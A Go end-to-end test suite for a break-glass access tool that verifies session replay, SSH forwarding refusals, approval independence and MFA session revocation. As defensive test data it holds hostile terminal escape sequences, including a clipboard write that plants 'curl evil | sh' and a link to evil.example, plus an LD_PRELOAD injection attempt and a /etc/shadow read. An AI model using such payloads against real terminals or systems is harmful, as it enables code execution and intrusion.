package e2e

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"errors"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"

	"moat/internal/api"
)

// storedSessions waits until every session of grant id has its recording
// on the control plane, and returns them.
func storedSessions(t *testing.T, env cmdEnv, id string, want int) []api.AccessSession {
	t.Helper()
	var out []api.AccessSession
	waitUntil(t, time.Minute, "the recordings to reach the control plane", func() bool {
		var gs []api.GrantListing
		if err := json.Unmarshal([]byte(must(t, env, "access", "list", "--all", "--output", "json")), &gs); err != nil {
			t.Fatal(err)
		}
		for _, g := range gs {
			if g.ID != id || len(g.Sessions) != want {
				continue
			}
			for _, s := range g.Sessions {
				if !s.Stored {
					return false
				}
			}
			out = g.Sessions
			return true
		}
		return false
	})
	return out
}

// TestBreakGlassReplayHostileOutput: whatever the node printed during a
// session (here a program writing a clipboard command, a hyperlink, a
// title report request and a device status request, as a log line an
// attacker planted would), replaying the session draws its text and
// colours and sends none of those sequences to the administrator's
// terminal, and says it left some out.
func TestBreakGlassReplayHostileOutput(t *testing.T) {
	b := startBreakGlass(t)
	id := b.request(t, "--node", "web-1", "--shell", "--reason", "INC-45", "--for", "1h")
	hostile := `printf 'safe-\033[1;31mred\033[0m\n\033]52;c;Y3VybCBldmlsIHwgc2gK\007\033]8;;http://evil.example/\033\\link\033]8;;\033\\\033[21t\033[6n\033P$q"p\033\\end\n'`
	if r := moatRun(t, b.alice.env, "", "ssh", "web-1", hostile); r.code != 0 || !strings.Contains(r.out, "\x1b]52;") {
		t.Fatalf("ssh: exit %d: %q %q", r.code, r.out, r.errOut)
	}
	sessions := storedSessions(t, b.alice.env, id, 1)
	r := moatRun(t, b.alice.env, "", "access", "replay", "--instant", sessions[0].ID)
	if r.code != 0 {
		t.Fatalf("replay: exit %d: %s", r.code, r.errOut)
	}
	// The attributes it set are reset after it.
	if want := "safe-\x1b[1;31mred\x1b[0m\nlinkend\n\x1b[0m"; r.out != want {
		t.Fatalf("replay wrote %q to the terminal, want %q", r.out, want)
	}
	if !strings.Contains(r.errOut, "6 terminal control sequence(s) that act on a terminal") {
		t.Fatalf("replay warned %q", r.errOut)
	}
	t.Log("the export keeps the recording as it is, for asciinema and for evidence")
	cast := filepath.Join(b.dir, "hostile.cast")
	must(t, b.alice.env, "access", "export", "-o", cast, sessions[0].ID)
	if raw, err := os.ReadFile(cast); err != nil || !strings.Contains(string(raw), `\u001b]52;c;`) {
		t.Fatalf("export: %v: %.200s", err, raw)
	}
}

// TestBreakGlassReplayLeavesTerminalAsFound: a holder of a shell grant
// prints what a replay draws (concealed text, a hidden cursor, the
// alternate screen, bracketed paste, a scroll region, the line-drawing
// character set, the application keypad) and leaves it set, so that the
// lines the replay writes after the session's output (whether its
// programs are all recorded, what it left out) would be invisible or
// drawn where the session left them, and the administrator's own shell
// after it would hide what they type. The replay puts back, after the
// session's output, what the recording left set.
func TestBreakGlassReplayLeavesTerminalAsFound(t *testing.T) {
	b := startBreakGlass(t)
	id := b.request(t, "--node", "web-1", "--shell", "--reason", "INC-46", "--for", "1h")
	hiding := `printf 'shown\n\033[?1049h\033[?25l\033[?2004h\033[5;10r\033(0\033=\033[30;40;8mhidden'`
	if r := moatRun(t, b.alice.env, "", "ssh", "web-1", hiding); r.code != 0 || !strings.Contains(r.out, "hidden") {
		t.Fatalf("ssh: exit %d: %q %q", r.code, r.out, r.errOut)
	}
	sessions := storedSessions(t, b.alice.env, id, 1)
	r := moatRun(t, b.alice.env, "", "access", "replay", "--instant", sessions[0].ID)
	if r.code != 0 {
		t.Fatalf("replay: exit %d: %s", r.code, r.errOut)
	}
	_, after, ok := strings.Cut(r.out, "hidden")
	if !ok {
		t.Fatalf("replay wrote %q", r.out)
	}
	for _, undo := range []string{"\x1b[?1049l", "\x1b[?25h", "\x1b[?2004l", "\x1b7\x1b[r\x1b8", "\x1b(B", "\x1b>", "\x1b[0m"} {
		if !strings.Contains(after, undo) {
			t.Errorf("after the session's output the replay wrote %q, without %q", after, undo)
		}
	}
}

// TestBreakGlassRecordingsShipPastARefusedOne: a session the control plane
// refuses to take (here one of a grant it does not know, as a node's
// leftover from before a restore would be) does not hold back the
// recordings of the sessions after it: each is sent on its own.
func TestBreakGlassRecordingsShipPastARefusedOne(t *testing.T) {
	b := startBreakGlass(t)
	dir := filepath.Join(b.dir, "web-1", "access", "rec")
	if err := os.MkdirAll(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	refused, err := json.Marshal(api.AccessSession{ID: strings.Repeat("0", 24), Grant: strings.Repeat("0", 32), Admin: "spiffe://example.org/admin/admin", Mode: api.ModeShell, Ended: time.Now()})
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, strings.Repeat("0", 24)+".json"), refused, 0o600); err != nil {
		t.Fatal(err)
	}
	id := b.request(t, "--node", "web-1", "--shell", "--reason", "INC-47", "--for", "1h")
	must(t, b.alice.env, "ssh", "web-1", "echo shipped-47")
	x := storedSessions(t, b.alice.env, id, 1)[0]
	if got := must(t, b.alice.env, "access", "replay", "--instant", x.ID); !strings.Contains(got, "shipped-47") {
		t.Fatalf("replay: %q", got)
	}
}

// proxiedSSH opens an SSH client connection to node through "moat access
// proxy" with the shell grant's credentials that ssh-cert wrote, as ssh(1)
// would, but with a client that asks for whatever an attacker might.
func proxiedSSH(t *testing.T, env cmdEnv, node string) *ssh.Client {
	t.Helper()
	must(t, env, "access", "ssh-cert", node)
	dir := filepath.Join(env["MOAT_ADMIN_DIR"], "access", node)
	keyPEM, err := os.ReadFile(filepath.Join(dir, "id_ed25519"))
	if err != nil {
		t.Fatal(err)
	}
	key, err := ssh.ParsePrivateKey(keyPEM)
	if err != nil {
		t.Fatal(err)
	}
	certText, err := os.ReadFile(filepath.Join(dir, "id_ed25519-cert.pub"))
	if err != nil {
		t.Fatal(err)
	}
	pub, _, _, _, err := ssh.ParseAuthorizedKey(certText)
	if err != nil {
		t.Fatal(err)
	}
	signer, err := ssh.NewCertSigner(pub.(*ssh.Certificate), key)
	if err != nil {
		t.Fatal(err)
	}
	known, err := os.ReadFile(filepath.Join(dir, "known_hosts"))
	if err != nil {
		t.Fatal(err)
	}
	_, _, hostCA, _, _, err := ssh.ParseKnownHosts(known)
	if err != nil {
		t.Fatal(err)
	}
	checker := &ssh.CertChecker{IsHostAuthority: func(k ssh.PublicKey, _ string) bool {
		return string(k.Marshal()) == string(hostCA.Marshal())
	}}
	cmd := exec.Command(moatBinary(t), "access", "proxy", node)
	cmd.Env = env.list()
	stdin, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	var errb lockedBuffer
	cmd.Stderr = &errb
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { stdin.Close(); cmd.Process.Kill(); cmd.Wait() })
	conn, far := net.Pipe()
	go func() { io.Copy(stdin, far); stdin.Close() }()
	go func() { io.Copy(far, stdout); far.Close() }()
	sc, chans, reqs, err := ssh.NewClientConn(conn, node+":22", &ssh.ClientConfig{
		User: "admin", Auth: []ssh.AuthMethod{ssh.PublicKeys(signer)},
		HostKeyCallback: checker.CheckHostKey, Timeout: time.Minute,
	})
	if err != nil {
		t.Fatalf("ssh through moat access proxy: %v (%s)", err, errb.String())
	}
	c := ssh.NewClient(sc, chans, reqs)
	t.Cleanup(func() { c.Close() })
	return c
}

// TestBreakGlassSSHRefusesForwarding: a shell grant carries a shell and
// its commands, nothing else: the node's SSH server refuses port
// forwarding either way, agent and X11 forwarding, environment variables
// and subsystems other than sftp, while the session itself works.
func TestBreakGlassSSHRefusesForwarding(t *testing.T) {
	b := startBreakGlass(t)
	b.request(t, "--node", "web-1", "--shell", "--reason", "INC-46", "--for", "1h")
	c := proxiedSSH(t, b.alice.env, "web-1")

	if _, err := c.Dial("tcp", b.echoAddr); err == nil || !strings.Contains(err.Error(), "prohibited") {
		t.Fatalf("a local forward (direct-tcpip) to %s: %v", b.echoAddr, err)
	}
	if ln, err := c.Listen("tcp", "127.0.0.1:0"); err == nil {
		ln.Close()
		t.Fatal("a remote forward (tcpip-forward) was accepted")
	}
	if ok, _, err := c.SendRequest("streamlocal-forward@openssh.com", true, ssh.Marshal(struct{ Path string }{"/tmp/moat-fwd"})); ok || err != nil {
		t.Fatalf("a remote socket forward: accepted %v, %v", ok, err)
	}

	s, err := c.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	if err := s.Setenv("LD_PRELOAD", "/tmp/evil.so"); err == nil {
		t.Fatal("an env request was accepted")
	}
	for _, req := range []string{"auth-agent-req@openssh.com", "x11-req"} {
		if ok, err := s.SendRequest(req, true, nil); ok || err != nil {
			t.Fatalf("%s: accepted %v, %v", req, ok, err)
		}
	}
	if err := s.RequestSubsystem("netconf"); err == nil {
		t.Fatal("a subsystem other than sftp was accepted")
	}
	s2, err := c.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	defer s2.Close()
	out, err := s2.Output(`echo "ld=[$LD_PRELOAD] sock=[$SSH_AUTH_SOCK]"`)
	if err != nil || string(out) != "ld=[] sock=[]\n" {
		t.Fatalf("a command after the refusals: %q, %v", out, err)
	}
}

// TestBreakGlassApprovalByRequestersAccount: the two-person rule is not
// met by an account the requester made. Alice creates an administrator
// (and, through it, another), enrols their authenticators herself and has
// them approve her grant: taken by default and reported by detection,
// refused with access.independent_approvers, as is bob, whom she made too;
// carol, made by the server's host, approves. Re-creating carol's account
// under alice's hand makes it hers.
func TestBreakGlassApprovalByRequestersAccount(t *testing.T) {
	b := startBreakGlassWith(t, "  independent_approvers: true\n", "carol")
	alice := b.alice
	carol := enrol(t, alice.env.with("MOAT_ADMIN_DIR", filepath.Join(b.dir, "carol")))
	puppetDir := filepath.Join(b.dir, "puppet")
	must(t, alice.env, "admin", "create", "--name", "puppet", "--role", "admin", "--out", puppetDir)
	puppet := enrol(t, alice.env.with("MOAT_ADMIN_DIR", puppetDir))
	puppet2Dir := filepath.Join(b.dir, "puppet2")
	must(t, puppet.env, "admin", "create", "--name", "puppet2", "--role", "admin", "--out", puppet2Dir)
	puppet2 := enrol(t, alice.env.with("MOAT_ADMIN_DIR", puppet2Dir))

	id := must(t, alice.env, "access", "request", "--node", "web-1", "--shell", "--reason", "INC-47", "--for", "1h")
	for _, p := range []*admin{puppet, puppet2, b.bob} {
		r := moatRun(t, p.env, "", "access", "approve", id)
		if r.code != 1 || !strings.Contains(r.errOut, "was created by the requester (spiffe://example.org/admin/admin), and approvers must be independent") {
			t.Fatalf("approval by %s, an account alice made: exit %d: %q %q", p.env["MOAT_ADMIN_DIR"], r.code, r.out, r.errOut)
		}
	}
	if st := grantState(t, alice.env, id); st != api.GrantPending {
		t.Fatalf("grant %s is %s after the refused approvals", id, st)
	}
	if out := must(t, carol.env, "access", "approve", id); !strings.Contains(out, "active until") {
		t.Fatalf("carol's approval: %s", out)
	}
	t.Log("independence is one way: alice approves a grant of bob's")
	bobs := must(t, b.bob.env, "access", "request", "--node", "web-1", "--shell", "--reason", "INC-48", "--for", "1h")
	if out := must(t, alice.env, "access", "approve", bobs); !strings.Contains(out, "active until") {
		t.Fatalf("alice's approval of bob's grant: %s", out)
	}

	t.Log("alice resets and re-creates carol's account: the new carol is hers")
	id2 := must(t, alice.env, "access", "request", "--node", "web-1", "--shell", "--reason", "INC-49", "--for", "1h")
	must(t, alice.env, "admin", "mfa", "reset", "--name", "carol")
	carol2Dir := filepath.Join(b.dir, "carol2")
	must(t, alice.env, "admin", "create", "--name", "carol", "--role", "admin", "--out", carol2Dir, "--replace")
	carol2 := enrol(t, alice.env.with("MOAT_ADMIN_DIR", carol2Dir))
	if r := moatRun(t, carol2.env, "", "access", "approve", id2); r.code != 1 || !strings.Contains(r.errOut, "was created by the requester") {
		t.Fatalf("approval by the re-created carol: exit %d: %q %q", r.code, r.out, r.errOut)
	}
}

// copyAdminDir copies an administrator's credentials directory (enrolment
// certificate and key, bundle, MFA session certificate and key), as a thief
// with a moment on their machine would.
func copyAdminDir(t *testing.T, from, to string) {
	t.Helper()
	if err := os.MkdirAll(to, 0o700); err != nil {
		t.Fatal(err)
	}
	for _, f := range []string{api.CertFile, api.KeyFile, api.BundleFile, api.SessionFile} {
		data, err := os.ReadFile(filepath.Join(from, f))
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(to, f), data, 0o600); err != nil {
			t.Fatal(err)
		}
	}
}

// TestMFASessionEndsOnLogoutAndReset: a copied MFA session certificate is
// good for sensitive calls only while its session lasts on the server:
// its owner's logout ends it, and so does a reset of the owner's factors by
// another administrator (for a lost or stolen authenticator).
func TestMFASessionEndsOnLogoutAndReset(t *testing.T) {
	b := startBreakGlass(t)
	alice, bob := b.alice, b.bob
	pol := filepath.Join(b.dir, "deny.yaml")
	os.WriteFile(pol, []byte("default: deny\n"), 0o600)
	refused := "needs a fresh MFA proof"

	t.Log("a copy of bob's session, then alice resets bob's factors")
	stolenBob := filepath.Join(b.dir, "stolen-bob")
	copyAdminDir(t, bob.env["MOAT_ADMIN_DIR"], stolenBob)
	thiefBob := bob.env.with("MOAT_ADMIN_DIR", stolenBob)
	must(t, thiefBob, "policy", "apply", "-f", pol)
	must(t, alice.env, "admin", "mfa", "reset", "--name", "bob")
	if r := moatRun(t, thiefBob, "", "policy", "apply", "-f", pol); r.code == 0 || !strings.Contains(r.errOut, refused) {
		t.Fatalf("bob's copied session after the reset: exit %d: %q", r.code, r.errOut)
	}
	t.Log("a thief copies alice's directory while her session lasts; she logs out")
	stolen := filepath.Join(b.dir, "stolen-alice")
	copyAdminDir(t, alice.env["MOAT_ADMIN_DIR"], stolen)
	thief := alice.env.with("MOAT_ADMIN_DIR", stolen)
	must(t, thief, "policy", "apply", "-f", pol) // the session works before
	must(t, alice.env, "admin", "mfa", "logout")
	if r := moatRun(t, thief, "", "policy", "apply", "-f", pol); r.code == 0 || !strings.Contains(r.errOut, refused) {
		t.Fatalf("the copied session after its owner's logout: exit %d: %q", r.code, r.errOut)
	}
	if r := moatRun(t, alice.env, "", "admin", "mfa", "logout"); r.code != 0 || r.out != "0 MFA session(s) of spiffe://example.org/admin/admin ended\n" {
		t.Fatalf("a second logout: exit %d: %q %q", r.code, r.out, r.errOut)
	}
}

// TestBreakGlassRevokedNode: revoking a node ends its access tunnel as it
// ends its watch stream: no administrator's session is relayed to an agent
// whose identity the control plane no longer trusts, even under a grant
// approved before.
func TestBreakGlassRevokedNode(t *testing.T) {
	b := startBreakGlass(t)
	b.request(t, "--node", "web-1", "--shell", "--reason", "INC-50", "--for", "1h")
	if r := moatRun(t, b.alice.env, "", "ssh", "web-1", "echo before"); r.code != 0 || r.out != "before\n" {
		t.Fatalf("ssh before the revocation: exit %d: %q %q", r.code, r.out, r.errOut)
	}
	must(t, b.alice.env, "revoke", "--node", "web-1")
	waitUntil(t, time.Minute, "the server to close web-1's access tunnel", func() bool {
		return strings.Contains(b.server.errb.String(), "access tunnel of an untrusted node closed")
	})
	r := moatRun(t, b.alice.env, "", "ssh", "web-1", "echo after")
	if r.code == 0 || strings.Contains(r.out, "after") || !strings.Contains(r.errOut, "no access tunnel") {
		t.Fatalf("ssh to the revoked node: exit %d: %q %q", r.code, r.out, r.errOut)
	}
}

// nodeTLS is an HTTP client holding web-1's node credentials, opened from
// the agent's sealed data directory with its KEK: what an attacker with
// root on the node holds.
func (b *breakGlass) nodeTLS(t *testing.T) *http.Client {
	t.Helper()
	dir := filepath.Join(b.dir, "web-1")
	kr := openKeyring(t, dir, dir+".kek")
	key := sealedKey(t, kr.AEAD(), dir, "web-1", "node")
	chainPEM, err := os.ReadFile(filepath.Join(dir, "node", api.CertFile))
	if err != nil {
		t.Fatal(err)
	}
	var cert tls.Certificate
	for rest := chainPEM; ; {
		var blk *pem.Block
		if blk, rest = pem.Decode(rest); blk == nil {
			break
		}
		cert.Certificate = append(cert.Certificate, blk.Bytes)
	}
	cert.PrivateKey = key
	tr := &http.Transport{TLSClientConfig: &tls.Config{Certificates: []tls.Certificate{cert}, InsecureSkipVerify: true}}
	t.Cleanup(tr.CloseIdleConnections)
	return &http.Client{Transport: tr, Timeout: time.Minute}
}

// TestRecordingUploadHeldOpen: a node that announces recordings and sends
// none of their bytes holds no more than one upload at a time, and the
// server sets aside nothing for bytes that have not arrived: a second
// upload from it is refused at once, and one that ends short is refused.
func TestRecordingUploadHeldOpen(t *testing.T) {
	b := startBreakGlass(t)
	id := b.request(t, "--node", "web-1", "--shell", "--reason", "INC-51", "--for", "1h")
	must(t, b.alice.env, "ssh", "web-1", "echo recorded")
	x := storedSessions(t, b.alice.env, id, 1)[0]
	hc := b.nodeTLS(t)
	header, err := json.Marshal(api.RecordingUpload{Session: x, Size: 60 << 20})
	if err != nil {
		t.Fatal(err)
	}
	url := "https://" + b.serverAddr + api.PathNodeAccessRec

	t.Log("an upload announcing 60 MiB sends its header and holds the rest")
	held, feed := io.Pipe()
	defer feed.Close()
	first := make(chan *http.Response, 1)
	go func() {
		resp, err := hc.Post(url, "application/octet-stream", held)
		if err != nil {
			first <- nil
			return
		}
		first <- resp
	}()
	if _, err := feed.Write(append(header, '\n')); err != nil {
		t.Fatal(err)
	}
	feed.Write([]byte("[0.1, \"o\", \"partial\"]\n"))

	t.Log("a second upload from the same node is refused while the first is held")
	waitUntil(t, time.Minute, "the second upload to be refused as one too many", func() bool {
		r, err := hc.Post(url, "application/octet-stream", bytes.NewReader(append(append(header, '\n'), "short"...)))
		if err != nil {
			t.Fatal(err)
		}
		defer r.Body.Close()
		body, _ := io.ReadAll(r.Body)
		return r.StatusCode == http.StatusServiceUnavailable && strings.Contains(string(body), "one at a time per node")
	})
	t.Log("the held upload, cut short, is refused")
	feed.Close()
	if r := <-first; r == nil || r.StatusCode != http.StatusBadRequest {
		t.Fatalf("the held upload cut short: %v", r)
	}
}

// TestMFASessionNotRenewed: an MFA session certificate lives minutes and
// is not renewed into a long-lived credential: a thief holding only the
// session certificate and its key is refused by admin renew, while its
// owner, whose client renews with the enrolment certificate, is not.
func TestMFASessionNotRenewed(t *testing.T) {
	b := startBreakGlass(t)
	alice := b.alice
	sessionPEM, err := os.ReadFile(filepath.Join(alice.env["MOAT_ADMIN_DIR"], api.SessionFile))
	if err != nil {
		t.Fatal(err)
	}
	var certs, key []byte
	for rest := sessionPEM; ; {
		var blk *pem.Block
		if blk, rest = pem.Decode(rest); blk == nil {
			break
		}
		if blk.Type == "CERTIFICATE" {
			certs = append(certs, pem.EncodeToMemory(blk)...)
		} else {
			key = pem.EncodeToMemory(blk)
		}
	}
	stolen := filepath.Join(b.dir, "session-only")
	os.MkdirAll(stolen, 0o700)
	bundle, _ := os.ReadFile(filepath.Join(alice.env["MOAT_ADMIN_DIR"], api.BundleFile))
	for f, data := range map[string][]byte{api.CertFile: certs, api.KeyFile: key, api.BundleFile: bundle} {
		os.WriteFile(filepath.Join(stolen, f), data, 0o600)
	}
	thief := alice.env.with("MOAT_ADMIN_DIR", stolen)
	if out := must(t, thief, "admin", "whoami"); !strings.Contains(out, "spiffe://example.org/admin/admin") {
		t.Fatalf("whoami with the session certificate: %q", out)
	}
	r := moatRun(t, thief, "", "admin", "renew", "--ttl", "720h")
	if r.code == 0 || !strings.Contains(r.errOut, "an MFA session certificate is not renewed") {
		t.Fatalf("renewing the session certificate: exit %d: %q %q", r.code, r.out, r.errOut)
	}
	if out := must(t, alice.env, "admin", "renew"); !strings.Contains(out, "renewed spiffe://example.org/admin/admin") {
		t.Fatalf("alice's renewal during her session: %q", out)
	}
}

// TestPeerRelayNeedsServer: the servers' relay of break-glass connections
// and their recording fetch answer a server of the cluster only: an
// administrator (with an MFA session) or a node calling them, with a hello
// naming any grant, is refused before the hello is read.
func TestPeerRelayNeedsServer(t *testing.T) {
	c := newCluster(t)
	c.startAgent("n1")
	hello := `{"session":"000000000000000000000000","grant":"10000000000000000000000000000000","admin":"spiffe://example.org/admin/admin","alpn":"moat-access-ssh/1"}`
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	for name, cl := range map[string]*api.Client{"an administrator": c.mfaAdmin(c.adminDir), "a node": c.nodeClient("n1")} {
		_, err := cl.Stream(ctx, api.PathPeerAccessDial, http.Header{api.HeaderRelayHello: {hello}})
		var se *api.StatusError
		if !errors.As(err, &se) || se.Code != http.StatusUnauthorized || !strings.Contains(se.Msg, "needs a server certificate") {
			t.Fatalf("%s dialling the peer relay: %v", name, err)
		}
		err = cl.Call(ctx, http.MethodGet, api.PathPeerRecording+"?session=000000000000000000000000", nil, nil)
		if !errors.As(err, &se) || se.Code != http.StatusUnauthorized {
			t.Fatalf("%s fetching a recording from a peer: %v", name, err)
		}
	}
}

// TestBreakGlassForwardGrantOpensNoShell: a forward grant's certificate
// opens no shell, whichever way it is asked: the relay refuses the shell
// protocol under it, and the agent refuses a client that offers the shell
// protocol inside a connection the relay opened for forwarding. It cannot
// buy an SSH certificate either.
func TestBreakGlassForwardGrantOpensNoShell(t *testing.T) {
	b := startBreakGlass(t)
	must(t, b.alice.env, "svc", "register", "--node", "web-1", "--name", "db", "--port", strconv.Itoa(b.echoPort))
	id := b.request(t, "--service", "db", "--reason", "INC-52", "--for", "1h")
	s, err := api.NewAdminSession(b.serverAddr, b.alice.env["MOAT_ADMIN_DIR"], api.SessionConfig{})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	csr, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{}, key)
	if err != nil {
		t.Fatal(err)
	}
	var ac api.AccessCert
	if err := s.Call(ctx, http.MethodPost, api.PathAccessCert, api.AccessCertRequest{Grant: id, CSR: csr}, &ac); err != nil {
		t.Fatal(err)
	}
	sshKey := "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGmUf2r5VeYyVYpNuqgV3mEFlHn8e7d5DHXoFh5z0vHc"
	if err := s.Call(ctx, http.MethodPost, api.PathAccessCert, api.AccessCertRequest{Grant: id, CSR: csr, SSHKey: sshKey}, nil); err == nil || !strings.Contains(err.Error(), "an SSH certificate is for a shell grant") {
		t.Fatalf("an SSH certificate under a forward grant: %v", err)
	}
	cert := &tls.Certificate{Certificate: ac.Chain, PrivateKey: key}

	t.Log("the relay refuses the shell protocol under a forward grant")
	_, err = s.Stream(ctx, api.PathAccessDial, http.Header{api.HeaderGrant: {id}, api.HeaderALPN: {api.ALPNAccessSSH}})
	var se *api.StatusError
	if !errors.As(err, &se) || se.Code != http.StatusForbidden || !strings.Contains(se.Msg, "is for forward") {
		t.Fatalf("dialling a shell under a forward grant: %v", err)
	}

	t.Log("inside a forward relay, the agent refuses a client offering the shell protocol")
	conn, err := s.Stream(ctx, api.PathAccessDial, http.Header{api.HeaderGrant: {id}, api.HeaderALPN: {api.ALPNAccessForward}})
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	tc := tls.Client(conn, &tls.Config{MinVersion: tls.VersionTLS13, NextProtos: []string{api.ALPNAccessSSH},
		GetClientCertificate: func(*tls.CertificateRequestInfo) (*tls.Certificate, error) { return cert, nil },
		InsecureSkipVerify:   true})
	err = tc.HandshakeContext(ctx)
	if err == nil {
		// TLS 1.3: the client's certificate is judged after the client's
		// handshake ends; the refusal arrives on the first read.
		_, err = tc.Read(make([]byte, 1))
	}
	if err == nil {
		t.Fatal("the agent took a shell connection under a forward grant")
	}
	waitUntil(t, time.Minute, "the agent to record the refusal", func() bool {
		return strings.Contains(b.agent.errb.String(), "is for forward, not shell")
	})
}

// TestBreakGlassNeverRootByDefault: an agent told to give shells as root
// refuses to start unless its configuration says allow_root; the shells an
// agent gives run unprivileged.
func TestBreakGlassNeverRootByDefault(t *testing.T) {
	b := startBreakGlass(t)
	env := b.alice.env
	tok := must(t, env, "token", "create", "--node", "web-2")
	r := moatRun(t, env, "", "agent", "--data-dir", filepath.Join(b.dir, "web-2"), "--server", b.serverAddr,
		"--node", "web-2", "--join", tok, "--listen", "127.0.0.1:0", "--access-user", "root")
	if r.code == 0 || !strings.Contains(r.errOut, "access.user: root shells are refused unless allow_root is true") {
		t.Fatalf("an agent for root shells: exit %d: %q", r.code, r.errOut)
	}

	t.Log("on web-1 the shell runs as the configured user, not root, and cannot read what root alone reads")
	b.request(t, "--node", "web-1", "--shell", "--reason", "INC-54", "--for", "1h")
	r = moatRun(t, env, "", "ssh", "web-1", "id -u; if cat /etc/shadow >/dev/null 2>&1; then echo shadow-read; fi")
	if r.code != 0 || strings.TrimSpace(r.out) == "0" || strings.Contains(r.out, "shadow-read") {
		t.Fatalf("ssh web-1: exit %d: %q %q", r.code, r.out, r.errOut)
	}
}

// TestBreakGlassRecordingWithinServersBound: a node whose
// max_recording_bytes (64 MiB by default) is above the control plane's
// (here 64 KiB) recorded sessions past what the control plane takes, and
// their recordings were refused each time they were sent, for ever. The
// agent now learns the control plane's bound as its access tunnel opens,
// warns, and ends a session whose recording reaches it: the recording,
// with its note saying so, reaches the control plane.
func TestBreakGlassRecordingWithinServersBound(t *testing.T) {
	b := startBreakGlassWith(t, "  max_recording_bytes: 65536\n")
	id := b.request(t, "--node", "web-1", "--shell", "--reason", "INC-52", "--for", "1h")
	r := moatRun(t, b.alice.env, "", "ssh", "web-1", "head -c 300000 /dev/zero | od -v")
	t.Logf("a session printing some 1.2 MB: exit %d, %d bytes shown", r.code, len(r.out))
	x := storedSessions(t, b.alice.env, id, 1)[0]
	cast := filepath.Join(b.dir, "bounded.cast")
	must(t, b.alice.env, "access", "export", "-o", cast, x.ID)
	got, err := os.ReadFile(cast)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) > 65536 || !strings.Contains(string(got), "recording limit reached: session ended") {
		t.Fatalf("the recording of a session past the control plane's bound: %d bytes, note of the limit %v; want at most 65536 with the note",
			len(got), strings.Contains(string(got), "recording limit reached"))
	}
	if !strings.Contains(b.agent.errb.String(), "max_recording_bytes is above the control plane's") {
		t.Fatal("the agent did not warn that its max_recording_bytes is above the control plane's")
	}
}
